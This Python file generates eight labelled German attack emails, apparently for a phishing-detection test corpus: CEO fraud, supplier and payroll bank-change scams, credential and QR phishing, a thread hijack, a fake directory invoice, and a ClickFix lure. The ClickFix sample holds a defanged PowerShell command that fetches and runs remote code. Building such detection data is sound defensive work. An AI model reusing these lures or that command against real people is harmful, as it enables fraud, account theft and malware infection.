"""Attack messages, German (01-08)."""
import base64

import htm
import infra as I
from company import S, LIEF_ATTACK_IBAN, LIEF_IBAN_OLD, CEO_FRAUD_IBAN, PAYROLL_ATTACK_IBAN, REGISTER_IBAN
from ids import fmt_iban
from kit import (plain, html, alt, mixed, related, att, att_outlook, pdf_doc, pdf_date, qr, dedent,
                 quote_lines)
from msg import M
from util import local_to_utc

F = "attack"


def a01():
    body = dedent("""
    Sabine,

    bist du heute noch im Büro erreichbar? Ich sitze seit heute Mittag mit den Beratern in Zürich, das Projekt "Lichtspiel" (Übernahme der Kinokette in der Ostschweiz) ist deutlich weiter als geplant. Die Gegenseite verlangt bis morgen 12:00 Uhr eine erste Sicherheitsleistung auf dem Treuhandkonto, sonst geht die Exklusivität an den Mitbewerber.

    Bis zur offiziellen Bekanntgabe gilt strikte Vertraulichkeit (Insiderrecht). Bitte sprich mit niemandem im Haus darüber, auch nicht mit Monika oder der Buchhaltung - die Freigabe läuft ausnahmsweise nur über dich. Bitte schreib mir nur an diese Adresse, mein normales Postfach lesen die Berater mit.

    Dr. Markus Renner von Renner & Baumgartner Rechtsanwälte meldet sich in den nächsten Minuten bei dir mit dem Escrow Agreement. Betrag Tranche 1: 348.500,00 EUR auf das Anderkonto der Kanzlei:

    Kontoinhaber: Renner & Baumgartner Treuhand S.à r.l.
    IBAN: %s
    Verwendungszweck: LS-2026-ESC-01

    Kannst du mir kurz bestätigen, dass du das heute noch als Eilüberweisung rausgeben kannst? Ich bin in den Verhandlungen telefonisch nicht erreichbar, bitte nur per Mail.

    Danke dir!
    Jürgen

    Von meinem iPhone gesendet
    """) % fmt_iban(CEO_FRAUD_IBAN)
    return M(folder=F, num=1, lang="de", slug="ceo-fraud-uebernahme-treuhandkonto",
             profile=I.Combo(I.AppleMail(mailer="iPhone Mail (23B85)"),
                             I.VPS(helo="mail.examplegroup-holding.com",
                                   rdns="static.47.112.21.65.clients.your-server.de", ip="65.21.112.47",
                                   submit_ip="37.120.209.14")),
             when=("de", 2026, 10, 15, 16, 42, 7),
             frm=("Jürgen Köhler", "juergen.koehler@examplegroup-holding.com"), to=[S("cfo")],
             subject="Vertraulich - Projekt Lichtspiel",
             body=plain(body, "utf-8", "quoted-printable", quote_charset=False),
             desc="CEO fraud: 'Jürgen Köhler' asks the CFO for a secret urgent transfer of EUR 348,500 to a "
                  "lawyer's escrow account in Luxembourg for a confidential acquisition",
             why="Look-alike domain examplegroup-holding.com registered on a Hetzner VPS; CEO display name; "
                 "secrecy ('talk to nobody, not even accounts'), bypass of the approval process, deadline, "
                 "'mail only, not reachable by phone', fake lawyer announced, foreign escrow IBAN. Classic BEC.")


def a02():
    inv = [("RE-2026-10388", "14.862,40"), ("RE-2026-10412", "6.217,85")]
    body = dedent("""
    Sehr geehrte Frau Schäfer,

    im Rahmen der Zusammenführung unseres Zahlungsverkehrs mit unserer Muttergesellschaft wird unser bisheriges Konto bei der Sparkasse Bielefeld (%s) zum 23.10.2026 geschlossen.

    Bitte hinterlegen Sie in Ihrem Kreditorenstamm ab sofort ausschließlich die Bankverbindung aus dem beigefügten Schreiben. Das gilt auch für die beiden in dieser Woche fälligen Rechnungen:

    %s   %s EUR
    %s   %s EUR

    Zahlungen auf das alte Konto werden ab dem 23.10. von der Bank zurückgewiesen. Um Verzögerungen bei der Belieferung Ihrer Standorte vor dem Start der Weihnachtsfilme zu vermeiden, bitten wir um Ausgleich bis Freitag.

    Da unsere Telefonanlage wegen der Umstellung derzeit nur eingeschränkt erreichbar ist, bestätigen Sie die Änderung bitte kurz per Antwort auf diese E-Mail.

    Mit freundlichen Grüßen

    Petra Lang
    Forderungsmanagement

    Lieferant GmbH | Kino- & Gastronomiebedarf
    Eckendorfer Straße 91 | 33609 Bielefeld
    Tel. +49 521 98760-214
    www.lieferant-gmbh.de
    """) % (fmt_iban(LIEF_IBAN_OLD), inv[0][0], inv[0][1], inv[1][0], inv[1][1])
    letter = """
# Lieferant GmbH
Kino- & Gastronomiebedarf | Eckendorfer Straße 91 | 33609 Bielefeld

Example Group GmbH
Kreditorenbuchhaltung
Hohenzollernring 52
50672 Köln

Bielefeld, 19.10.2026

## Mitteilung über die Änderung unserer Bankverbindung

Sehr geehrte Damen und Herren,

hiermit teilen wir Ihnen mit, dass sich unsere Bankverbindung mit sofortiger Wirkung ändert.
Bitte leisten Sie alle Zahlungen, auch für bereits gestellte Rechnungen, nur noch auf folgendes Konto:

Kontoinhaber:   Lieferant GmbH
Bank:           Revolut Bank UAB
IBAN:           %s
BIC:            REVOLT21

Das bisherige Konto bei der Sparkasse Bielefeld wird aufgelöst.

Mit freundlichen Grüßen
Lieferant GmbH

i. A. Petra Lang, Forderungsmanagement

~Lieferant GmbH | Sitz Bielefeld | Amtsgericht Bielefeld HRB 41187 | Geschäftsführer: Rainer Lindemann
""" % fmt_iban(LIEF_ATTACK_IBAN)
    pdfb = pdf_doc(letter, title="Mitteilung Bankverbindung", author="plang",
                   producer="Microsoft® Word für Microsoft 365", creator="Microsoft® Word für Microsoft 365",
                   created=pdf_date("de", 2026, 10, 19, 17, 3))
    m = M(folder=F, num=2, lang="de", slug="lieferant-lookalike-bankverbindung",
          profile=I.Combo(I.OutlookDesktop(lang="de"),
                          I.VPS(helo="mail.lieferant-gmhb.de", rdns="vps-5c1d2e3f.vps.ovh.net",
                                ip="51.75.146.210", submit_ip="154.47.19.233")),
          when=("de", 2026, 10, 20, 8, 57, 31),
          frm=("Petra Lang", "p.lang@lieferant-gmhb.de"), to=[S("ap")],
          subject="Umstellung Bankverbindung Lieferant GmbH - offene Posten KW 43",
          desc="Look-alike of supplier Lieferant GmbH (lieferant-gmhb.de) announces a bank change to a Lithuanian "
               "EMI account and asks to pay two open invoices there",
          why="Domain lieferant-gmhb.de (letters swapped) on an OVH VPS instead of lieferant-gmbh.de; new account "
              "at a foreign e-money institution; 'confirm by e-mail only, phone not reachable'; pressure with "
              "supply stop. Supplier-impersonation BEC.",
          hardneg=[])
    t = plain(body, "windows-1252", "quoted-printable")
    h = html(htm.outlook(body, "DE"), "windows-1252", "quoted-printable")
    m.body = mixed(alt_parts(t, h), att(pdfb, "application/pdf", "Mitteilung_Bankverbindung_Lieferant_GmbH.pdf", style="2047"))
    return m


def alt_parts(t, h):
    import mime
    return mime.multi("alternative", [t, h])


def a03():
    url = "https://www.hausverwaltung-kessler-hamm.de/wp-content/plugins/ffa-meldung/portal/?az=FA-2026-09-04417&m=dXRlLmphZWdlckBleGFtcGxlLmNvbQ"
    txt = dedent("""
    Filmförderungsanstalt (FFA)
    Bundesanstalt des öffentlichen Rechts

    Aktenzeichen: FA-2026-09-04417
    Abgabepflichtiger: Example Group GmbH, Köln
    Meldezeitraum: September 2026

    Sehr geehrte Damen und Herren,

    bei der Prüfung Ihrer Meldung zur Filmabgabe für den Monat September 2026 wurde festgestellt, dass für drei Ihrer Spielstätten (Köln-Ring, Bonn, Düsseldorf-Hafen) die Angaben zu Besucherzahlen und Nettokartenumsätzen unvollständig übermittelt wurden.

    Bitte ergänzen Sie die fehlenden Angaben bis spätestens 23.10.2026 im Meldeportal:
    %s

    Die Anmeldung erfolgt wie gewohnt mit Ihrer dienstlichen E-Mail-Adresse und dem zugehörigen Kennwort (Microsoft-365-Konto Ihres Unternehmens).

    Erfolgt bis zum genannten Termin keine Ergänzung, wird die Abgabe auf Grundlage einer Schätzung festgesetzt; ein Säumniszuschlag kann zusätzlich erhoben werden.

    Mit freundlichen Grüßen
    Im Auftrag
    Referat Filmabgabe

    Filmförderungsanstalt | Große Präsidentenstraße 9 | 10178 Berlin
    Diese Nachricht wurde automatisch erstellt.
    """) % url
    h = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-15"></head>\n'
         '<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">\n'
         '<table width="620" cellpadding="0" cellspacing="0" style="border:1px solid #d0d0d0">\n'
         '<tr><td style="background:#003c78;color:#fff;padding:14px 20px;font-size:18px">'
         '<b>Filmförderungsanstalt (FFA)</b><br><span style="font-size:12px">Bundesanstalt des öffentlichen Rechts</span></td></tr>\n'
         '<tr><td style="padding:20px">\n'
         '<p style="font-size:12px;color:#555">Aktenzeichen: FA-2026-09-04417<br>Abgabepflichtiger: Example Group GmbH, Köln<br>'
         'Meldezeitraum: September 2026</p>\n'
         '<p>Sehr geehrte Damen und Herren,</p>\n'
         '<p>bei der Prüfung Ihrer Meldung zur Filmabgabe für den Monat September 2026 wurde festgestellt, dass für drei Ihrer '
         'Spielstätten (Köln-Ring, Bonn, Düsseldorf-Hafen) die Angaben zu Besucherzahlen und Nettokartenumsätzen unvollständig '
         'übermittelt wurden.</p>\n'
         '<p>Bitte ergänzen Sie die fehlenden Angaben bis spätestens <b>23.10.2026</b> im Meldeportal.</p>\n'
         '<p style="text-align:center;margin:26px 0"><a href="%s" style="background:#003c78;color:#fff;padding:11px 26px;'
         'text-decoration:none;font-weight:bold">Zum FFA-Meldeportal</a></p>\n'
         '<p>Die Anmeldung erfolgt wie gewohnt mit Ihrer dienstlichen E-Mail-Adresse und dem zugehörigen Kennwort '
         '(Microsoft-365-Konto Ihres Unternehmens).</p>\n'
         '<p>Erfolgt bis zum genannten Termin keine Ergänzung, wird die Abgabe auf Grundlage einer Schätzung festgesetzt; '
         'ein Säumniszuschlag kann zusätzlich erhoben werden.</p>\n'
         '<p>Mit freundlichen Grüßen<br>Im Auftrag<br>Referat Filmabgabe</p>\n'
         '</td></tr>\n<tr><td style="background:#f2f2f2;padding:10px 20px;font-size:11px;color:#666">'
         'Filmförderungsanstalt | Große Präsidentenstraße 9 | 10178 Berlin<br>Diese Nachricht wurde automatisch erstellt.</td></tr>\n'
         '</table>\n</body></html>\n') % url
    return M(folder=F, num=3, lang="de", slug="ffa-filmabgabe-meldeportal-phishing",
             profile=I.Exim(server="s147.goserver.host", server_ip="195.201.87.144", zone="de",
                            client_ip="102.129.143.71", host="hausverwaltung-kessler-hamm.de"),
             when=("de", 2026, 10, 21, 7, 12, 44),
             frm=("Filmförderungsanstalt (FFA)", "info@hausverwaltung-kessler-hamm.de"), to=[S("de_acc")],
             subject="Filmabgabe September 2026 - Meldung unvollständig (Az. FA-2026-09-04417)",
             hcs="iso-8859-15",
             body=alt(txt, h, "iso-8859-15", "quoted-printable"),
             desc="Credential phishing impersonating the German Federal Film Board (FFA): 'film levy return incomplete', "
                  "link to a 'Meldeportal' asking for the Microsoft 365 password",
             why="Sent from a compromised property-management website (cPanel/Exim, PHPMailer) with FFA display name; "
                 "the link points into a WordPress plugin folder on that site with the recipient address base64-encoded; "
                 "a public authority would never ask for the company's Microsoft 365 password; deadline and penalty threat.")


def a04():
    prev_date = "Mittwoch, 7. Oktober 2026 10:14"
    quoted = dedent("""
    Von: Kerstin Vogt <kerstin.vogt@example.com>
    Gesendet: %s
    An: Jana Hartmann <j.hartmann@nordlicht-filmverleih.de>
    Betreff: AW: Abrechnung Filmmiete September 2026 - Köln/Bonn

    Hallo Frau Hartmann,

    danke für die Abrechnung. Bei "Das stille Haus" fehlen in Bonn die beiden Zusatzvorstellungen vom 26.09. (Saal 4), dafür ist Köln-Ring in Woche 2 mit 60 statt 55 %% berechnet. Können Sie das bitte korrigieren?

    Viele Grüße
    Kerstin Vogt
    Filmdisposition | Example Group GmbH
    """) % prev_date
    link = "https://nordlichtfilmverleih-my.sharepoint.com/:o:/g/personal/j_hartmann_nordlicht-filmverleih_de/EkR7cQ2mY1ZFjH0tVx3n8WABk3QyE1b0sPa9fGd4hL2uNw?e=Vb71Qz"
    alt_link = "https://nordlicht-abrechnung.pages.dev/docs/filmmiete-09-2026/"
    body = dedent("""
    Hallo Frau Vogt,

    anbei wie besprochen die korrigierte Abrechnung September inkl. der Zusatzvorstellungen Bonn. Aus Datenschutzgründen stellen wir Abrechnungen ab sofort nur noch über unseren geschützten Bereich bereit:

    Abrechnung_Filmmiete_09-2026_korrigiert.pdf
    %s

    Falls Sie keinen Zugriff haben, können Sie das Dokument auch hier mit Ihrem Firmenkonto öffnen:
    %s

    Bitte prüfen Sie die Abrechnung zeitnah, die Zahlung wird zum 30.10. fällig.

    Mit freundlichen Grüßen
    Jana Hartmann
    """) % (link, alt_link)
    full = body + "\n" + "_" * 32 + "\n" + quoted
    h = htm.outlook(full, "DE")
    h = h.replace(link, '<a href="%s">%s</a>' % (link, link)).replace(alt_link, '<a href="%s">%s</a>' % (alt_link, alt_link))
    return M(folder=F, num=4, lang="de", slug="thread-hijack-filmverleih-sharepoint",
             profile=I.Outlook365(srv="FR4P281MB3615", srv2="FR2P281MB0187", pod="DEUP281", lang="de-DE",
                                  eop="mail-fr2deu01on2095.outbound.protection.outlook.com", eop_ip="40.107.135.95",
                                  org="nordlicht-filmverleih.de"),
             when=("de", 2026, 10, 22, 3, 12, 9),
             frm=("Jana Hartmann", "j.hartmann@nordlicht-filmverleih.de"), to=[S("film")], cc=[S("de_acc")],
             subject="AW: AW: Abrechnung Filmmiete September 2026 - Köln/Bonn",
             in_reply_to="<3f9c2a71e0b84d5c9a16e7d2b40c8f53@EXCH02.corp.example.com>",
             references=["<FR4P281MB36159D8E2A0F11B37C2E88F1A51320@FR4P281MB3615.DEUP281.prod.outlook.com>",
                         "<3f9c2a71e0b84d5c9a16e7d2b40c8f53@EXCH02.corp.example.com>"],
             body=alt(full, h, "utf-8", "quoted-printable", hcte="base64"),
             desc="Thread hijack from the genuinely compromised mailbox of the film distributor's booker: reply in the "
                  "real film-rental thread with a 'protected' OneNote/SharePoint link and a pages.dev fallback",
             why="Sent from the partner's real Exchange Online tenant at 03:12, but: the booker sent the original statement "
                 "as a PDF attachment (business/04); 'from now on only via protected area'; "
                 "second link to a Cloudflare pages.dev site asking for the company login; no signature block. "
                 "Compromised-account thread hijack leading to an AiTM login page.")


def a05():
    url = "https://mfa-erneuerung.de-ws.cfd/r/auth?e=aGFubmFoLmZ1Y2hzQGV4YW1wbGUuY29t&c=EG2026"
    png = qr(url, scale=5)
    txt = dedent("""
    Example Group - IT-Service

    Aktion erforderlich: Erneute Registrierung der Multi-Faktor-Authentifizierung

    Hallo Hannah Fuchs,

    im Zuge der Umstellung auf die neue Microsoft-Authenticator-Richtlinie müssen alle Konten der Example Group bis zum 30.10.2026 neu für die Multi-Faktor-Authentifizierung registriert werden. Nicht registrierte Konten werden ab dem 31.10.2026 für Outlook, Teams und das Kassensystem gesperrt.

    So geht's:
    1. Öffnen Sie die Kamera-App Ihres Smartphones.
    2. Scannen Sie den QR-Code in dieser E-Mail.
    3. Melden Sie sich mit Ihrem Firmenkonto an und bestätigen Sie die Anfrage in der Authenticator-App.

    Der Vorgang dauert weniger als zwei Minuten.

    Ihr IT-Service
    Example Group GmbH | Hohenzollernring 52 | 50672 Köln
    """)
    h = ('<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#f3f3f3">\n'
         '<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">\n'
         '<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#201f1e">\n'
         '<tr><td style="padding:18px 28px;border-bottom:3px solid #0078d4;font-size:16px"><b>Example Group</b> &middot; IT-Service</td></tr>\n'
         '<tr><td style="padding:24px 28px">\n<h2 style="font-size:20px;font-weight:600;margin:0 0 14px">Aktion erforderlich: Erneute MFA-Registrierung</h2>\n'
         '<p>Hallo Hannah Fuchs,</p>\n'
         '<p>im Zuge der Umstellung auf die neue Microsoft-Authenticator-Richtlinie müssen alle Konten der Example Group bis zum '
         '<b>30.10.2026</b> neu für die Multi-Faktor-Authentifizierung registriert werden. Nicht registrierte Konten werden ab dem '
         '31.10.2026 für Outlook, Teams und das Kassensystem gesperrt.</p>\n'
         '<p>Scannen Sie den folgenden Code mit der Kamera Ihres Smartphones und melden Sie sich mit Ihrem Firmenkonto an:</p>\n'
         '<p style="text-align:center"><img src="cid:qr-mfa-20261023@examplegroup" width="205" height="205" alt="QR-Code"></p>\n'
         '<p style="font-size:12px;color:#605e5c">Der Vorgang dauert weniger als zwei Minuten.</p>\n'
         '<p>Ihr IT-Service</p>\n</td></tr>\n'
         '<tr><td style="padding:12px 28px;font-size:11px;color:#8a8886;border-top:1px solid #edebe9">Example Group GmbH | Hohenzollernring 52 | 50672 Köln</td></tr>\n'
         '</table></td></tr></table></body></html>\n')
    import mime
    img = att(png, "image/png", "qr.png", inline=True, cid="qr-mfa-20261023@examplegroup")
    body = related(mime.multi("alternative", [plain(txt, "utf-8", "quoted-printable"),
                                              html(h, "utf-8", "quoted-printable")]), img)
    return M(folder=F, num=5, lang="de", slug="quishing-mfa-neuregistrierung", qr_payload=url,
             profile=I.Mailgun(mgdomain="mg.example-groupit.com"),
             when=("de", 2026, 10, 23, 10, 4, 51),
             frm=("IT-Service Example Group", "it-service@example-groupit.com"), to=[S("events")],
             env_from="bounce+7d2e1a.4f0c1b-hannah.fuchs=example.com@mg.example-groupit.com",
             subject="Aktion erforderlich: Erneute MFA-Registrierung bis 30.10.2026",
             body=body,
             desc="Quishing: fake internal IT notice demanding MFA re-registration; the only call to action is an inline "
                  "QR code (real, decodable) pointing to a phishing host with the user's address base64-encoded",
             why="Sent via Mailgun from the look-alike domain example-groupit.com, not from the internal relay; "
                 "QR code hides the URL (mfa-erneuerung.de-ws.cfd) from link scanners and moves the victim to the phone; "
                 "account-lock threat and deadline. IT announces MFA changes internally without QR codes (see business/06).")


def a06():
    body = dedent("""
    Hallo Katrin,

    kurze Bitte: ich habe mein Girokonto gewechselt, die Sparkasse schließt mein altes Konto zum Monatsende. Kannst du für das Novembergehalt schon die neue Bankverbindung hinterlegen?

    Kontoinhaberin: Kerstin Vogt
    IBAN: %s

    Ich schreibe dir von meiner privaten Adresse, weil ich im Homeoffice gerade nicht ins VPN komme und Thomas erst morgen Zeit hat. Gib mir bitte kurz Bescheid, wenn es eingetragen ist, dann kann ich das alte Konto kündigen.

    Danke dir und liebe Grüße
    Kerstin
    """) % fmt_iban(PAYROLL_ATTACK_IBAN)
    return M(folder=F, num=6, lang="de", slug="payroll-diversion-gehaltskonto",
             profile=I.GMX(client_ip="185.213.155.163", appn=22),
             when=("de", 2026, 11, 10, 19, 26, 3),
             frm=("Kerstin Vogt", "kerstin.vogt.privat@gmx.de"), to=[S("hr")],
             subject="Neue Bankverbindung Gehalt",
             body=plain(body, "UTF-8", "quoted-printable", quote_charset=False),
             desc="Payroll diversion: 'Kerstin Vogt' writes to HR/payroll from an unknown GMX address asking to pay the "
                  "November salary to a new neobank account",
             why="Free-mail address never used before by the employee, sent from a VPN exit node in the evening; "
                 "excuse for not using company mail; urgency before payroll run; asks for confirmation by mail; "
                 "bank changes must be made by the employee in the HR portal. Payroll-diversion BEC.")


def a07():
    vorg = "EGK-2026-118734"
    txt = dedent("""
    Register Deutscher Veranstaltungsstätten und Filmtheater
    Eintragung und Aktualisierung der Unternehmensdaten

    Vorgang: %s
    Firma: Example Group GmbH, Hohenzollernring 52, 50672 Köln
    Fälligkeit: 04.11.2026

    Sehr geehrte Damen und Herren,

    zur Aktualisierung Ihres Eintrags für den Zeitraum 2026/2027 erhalten Sie anbei das Formular mit den bei uns hinterlegten Daten. Bitte prüfen Sie die Angaben und überweisen Sie den Betrag fristgerecht unter Angabe der Vorgangsnummer.

    Die Eintragungsunterlagen finden Sie im Anhang (PDF).

    Mit freundlichen Grüßen
    RDV Registerservice
    """) % vorg
    pdftext = """
# Register Deutscher Veranstaltungsstätten und Filmtheater
RDV Registerservice Ltd. | Postfach 10 04 21 | 20003 Hamburg

Example Group GmbH
Hohenzollernring 52
50672 Köln

## Eintragungsformular / Zahlungsübersicht
Vorgang: %s        Datum: 26.10.2026        Fällig: 04.11.2026

Firma:            Example Group GmbH
Branche:          Filmtheater / Veranstaltungsstätten
Handelsregister:  Amtsgericht Köln
USt-IdNr.:        DE814476525

Pos. 1   Eintragung Basiseintrag inkl. Branchenkategorie 2026/2027      999,16 EUR
         zzgl. 19 %% USt.                                               189,84 EUR
         Gesamtbetrag                                                 1.189,00 EUR

Bitte überweisen Sie den Gesamtbetrag bis zum 04.11.2026 auf folgendes Konto:
Empfänger:  RDV Registerservice Ltd.
IBAN:       %s
BIC:        STSABGSF
Verwendungszweck: %s

~Hinweis: Dieses Schreiben ist ein Angebot zur Eintragung in das private Verzeichnis www.rdv-register.de. Es besteht keine
~Verpflichtung zur Eintragung. Mit Zahlung des Betrags kommt ein Vertrag über die Eintragung mit einer Laufzeit von drei
~Jahren zustande (jährlich 1.189,00 EUR). Kein Zusammenhang mit amtlichen Registern. Es gelten unsere AGB.
""" % (vorg, fmt_iban(REGISTER_IBAN), vorg)
    pdfb = pdf_doc(pdftext, title="Eintragungsformular %s" % vorg, producer="TCPDF 6.7.5 (http://www.tcpdf.org)",
                   creator="TCPDF", created=pdf_date("de", 2026, 10, 26, 6, 10))
    h = htm.simple(txt)
    import mime
    body = mixed(mime.multi("alternative", [plain(txt, "utf-8", "quoted-printable"), html(h, "utf-8", "quoted-printable")]),
                 att(pdfb, "application/pdf", "Eintragungsformular_%s.pdf" % vorg))
    return M(folder=F, num=7, lang="de", slug="fake-register-eintragungsrechnung",
             profile=I.Brevo(), when=("de", 2026, 10, 26, 7, 31, 2),
             frm=("RDV Registerservice", "service@rdv-register.de"), to=[S("de_mgr")],
             env_from="bounces-19847-rdvreg@bounces.sendibt3.com",
             subject="Vorgang %s - Eintragung 2026/2027, fällig 04.11.2026" % vorg,
             body=body,
             desc="Fake directory 'invoice': private 'Register Deutscher Veranstaltungsstätten' sends an invoice-like form "
                  "for EUR 1,189 payable to a Bulgarian account; the fine print makes payment a 3-year contract",
             why="Not a public register; layout imitates an official Handelsregister fee notice; small print reveals an "
                 "offer with a 3-year subscription; foreign EMI account; bulk-sent via Brevo. Known directory-invoice fraud.")


def a08():
    cmd = "powershell -w h -nop -c \"iex(irm hxxps://cdn-captcha-check[.]top/v/7731)\""
    att_html = ('<!DOCTYPE html>\n<html lang="de"><head><meta charset="utf-8"><title>Anfrage Weihnachtsfeier - Dokument</title>\n'
                '<style>body{font-family:Arial,sans-serif;background:#f7f7f7}.box{width:460px;margin:80px auto;background:#fff;'
                'border:1px solid #ddd;padding:28px}.cf{display:flex;align-items:center;gap:12px;border:1px solid #ccc;padding:14px;'
                'background:#fafafa}.chk{width:26px;height:26px;border:2px solid #888;border-radius:3px}.steps{margin-top:18px;'
                'font-size:14px;line-height:1.7}.code{font-family:Consolas,monospace;font-size:11px;background:#eee;padding:6px;'
                'word-break:break-all;color:#666}small{color:#888}</style></head>\n<body><div class="box">\n'
                '<h3>Dokument wird geladen &hellip;</h3>\n<p>Bitte bestätigen Sie, dass Sie ein Mensch sind, um die Unterlagen '
                '&bdquo;Anfrage_Weihnachtsfeier_Details.pdf&ldquo; anzuzeigen.</p>\n'
                '<div class="cf"><div class="chk"></div><div>Ich bin kein Roboter<br><small>reCAPTCHA &middot; Datenschutz - Nutzungsbedingungen</small></div></div>\n'
                '<div class="steps"><b>Verifizierungsschritte:</b><br>1. Drücken Sie die <b>Windows-Taste + R</b><br>'
                '2. Drücken Sie <b>Strg + V</b><br>3. Drücken Sie <b>Eingabe</b><br></div>\n'
                '<p class="code">Verifizierungs-ID: 7731-DE &middot; [inert test copy - original clipboard payload, defanged]: %s</p>\n'
                '</div></body></html>\n' % cmd.replace('"', "&quot;"))
    body = dedent("""
    Guten Tag Frau Krüger,

    wir (Kanzlei Reuter & Partner, ca. 180 Mitarbeitende) planen unsere Weihnachtsfeier am Freitag, 11.12.2026, und würden gern Ihren großen Saal am Hohenzollernring inkl. Privatvorstellung und anschließendem Flying Buffet buchen.

    Unsere Anforderungen (Zeitplan, Technik, Catering, Sitzplan) habe ich in der angehängten Datei zusammengefasst. Unser Mailsystem blockiert leider PDF-Anhänge an externe Empfänger, daher liegt das Dokument als geschützte Vorschau bei - einfach öffnen und kurz bestätigen.

    Wir haben auch Angebote von zwei anderen Häusern, würden uns aber gern bis Ende der Woche entscheiden. Können Sie mir bis Donnerstag ein Angebot schicken?

    Mit freundlichen Grüßen
    Jonas Reuter
    Büroleitung
    Kanzlei Reuter & Partner
    """)
    return M(folder=F, num=8, lang="de", slug="clickfix-eventanfrage-html-anhang",
             profile=I.GMX(webde=True, client_ip="91.92.243.19", appn=7),
             when=("de", 2026, 11, 17, 11, 2, 55),
             frm=("Jonas Reuter", "jonas.reuter.kanzlei@web.de"), to=[S("sales")],
             subject="Anfrage Weihnachtsfeier 11.12. - ca. 180 Personen, Saal + Privatvorstellung",
             body=mixed(plain(body, "UTF-8", "quoted-printable", quote_charset=False),
                        att(att_html.encode("utf-8"), "text/html", "Anfrage_Weihnachtsfeier_Details.html")),
             desc="ClickFix lure: plausible corporate Christmas-party booking request to sales with an HTML 'document "
                  "preview' showing a fake CAPTCHA that instructs Win+R, Ctrl+V, Enter (command shown only defanged)",
             why="Fake customer on web.de, excuse why the 'PDF' comes as HTML; the attachment is a fake CAPTCHA with "
                 "Run-dialog instructions - the ClickFix technique that makes the victim paste a PowerShell download "
                 "cradle. No genuine business sends such a page. Attachment is inert (no script, defanged command).")


MESSAGES = [a01, a02, a03, a04, a05, a06, a07, a08]
